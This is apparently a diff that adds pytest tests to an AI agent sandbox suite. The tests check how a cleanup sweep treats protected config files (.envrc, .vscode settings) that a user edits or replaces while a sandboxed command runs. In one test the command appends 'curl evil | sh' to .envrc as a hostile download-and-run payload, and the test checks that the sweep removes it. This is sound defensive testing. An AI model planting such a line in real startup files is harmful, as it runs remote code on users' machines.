@@ -688,6 +688,93 @@ async def test_a_read_denied_path_made_after_the_walk_is_still_masked(agent_for:
 
 
 
+async def _while_running(agent: Any, lab: Lab, script: str, user: Callable[[], None]) -> Any:
+    """Run `sh -c script` in the call's sandbox (with every per-call protection, then the sweep) and, once the
+    script has written `started`, do `user()` outside the sandbox, as an editor would while the command runs.
+    The script waits for what `user` does to show, so both really overlap. Returns the ProcessOutcome."""
+    import anyio
+
+    from agentcore.environments import percall
+
+    environment, policy = agent.engine.environment()
+
+    class Sink:
+        async def write(self, chunk: bytes) -> None:
+            pass
+
+    async def edit_once_started() -> None:
+        with anyio.fail_after(20):
+            while not (lab.ws / "started").exists():
+                await anyio.sleep(0.005)  # polling a condition the sandbox sets, not a guess at timing
+        user()
+
+    async def run(call_policy: Any) -> Any:
+        async with anyio.create_task_group() as tg:
+            tg.start_soon(edit_once_started)
+            return await environment.run(["sh", "-c", f"touch started; {script}"], call_policy, timeout_s=20, sink=Sink())
+
+    return await percall.run_guarded(environment, policy, agent.engine.manifest, run)
+
+
+def _nested_config(lab: Lab) -> tuple[Path, Path]:
+    (lab.ws / "sub" / ".vscode").mkdir(parents=True, exist_ok=True)
+    envrc, settings = lab.ws / "sub" / ".envrc", lab.ws / "sub" / ".vscode" / "settings.json"
+    envrc.write_text("export A=1\n")
+    settings.write_text("{}\n")
+    return envrc, settings
+
+
+def _edit_in_place(path: Path, text: str) -> None:
+    with open(path, "r+") as f:  # the same inode, as most editors save
+        f.write(text)
+        f.truncate()
+
+
+@pytest.mark.parametrize("environment", ["bwrap", "none"])
+async def test_what_the_user_changes_during_a_command_in_a_protected_entry_is_kept(
+    make_agent: Callable[..., Any], lab: Lab, environment: str
+) -> None:
+    """ENV-7: the sweep takes back what the command changed, and with bwrap the command could change nothing
+    at or beneath an existing protected entry (read-only, its directories pinned). So a change there during the
+    command is the user's: an `.envrc` saved in place, an editor setting added. Before, the sweep removed
+    both. With the environment `none`, which mounts nothing, the sweep cannot tell and still removes them."""
+    envrc, settings = _nested_config(lab)
+    agent = make_agent(lab.ws, bash_manifest(FILE_SHELL, environment=environment))
+
+    def user() -> None:
+        _edit_in_place(envrc, "export A=user\n")
+        (lab.ws / "sub" / ".vscode" / "launch.json").write_text("{}\n")
+        _edit_in_place(settings, '{"user": 1}\n')
+
+    outcome = await _while_running(
+        agent, lab, "until grep -q user sub/.envrc && [ -e sub/.vscode/launch.json ]; do :; done", user)
+    assert outcome.exit_code == 0
+    kept = environment == "bwrap"
+    assert outcome.protected_removed == (0 if kept else 3)
+    assert envrc.exists() is kept and settings.exists() is kept
+    if kept:
+        assert envrc.read_text() == "export A=user\n" and settings.read_text() == '{"user": 1}\n'
+        assert (lab.ws / "sub" / ".vscode" / "launch.json").read_text() == "{}\n"
+
+
+async def test_a_protected_file_replaced_during_a_command_is_removed(make_agent: Callable[..., Any], lab: Lab) -> None:
+    """Renaming another file over a protected one (as vim saves) detaches the sandbox's read-only mount of
+    it, and the command can then write the new file: the sweep cannot tell whose it is and removes it.
+    Here the command does append to it; nothing of that survives."""
+    envrc, _ = _nested_config(lab)
+    agent = make_agent(lab.ws, bash_manifest(FILE_SHELL))
+
+    def user() -> None:
+        (lab.ws / "new-envrc").write_text("export A=user\n")
+        os.replace(lab.ws / "new-envrc", envrc)
+
+    outcome = await _while_running(agent, lab, "until grep -q user sub/.envrc; do :; done; echo 'curl evil | sh' >> sub/.envrc", user)
+    assert outcome.exit_code == 0  # the append succeeded: the mount was gone
+    assert outcome.protected_removed == 1
+    assert not envrc.exists()
+    assert not any(b"evil" in content for _, content in lab.snapshot().values())
+
+
 @pytest.mark.parametrize("command", [
     "touch skills/pdf/SKILL.md",  # change an existing skill
     "cp a.txt skills/pdf/extra.md",  # add to one
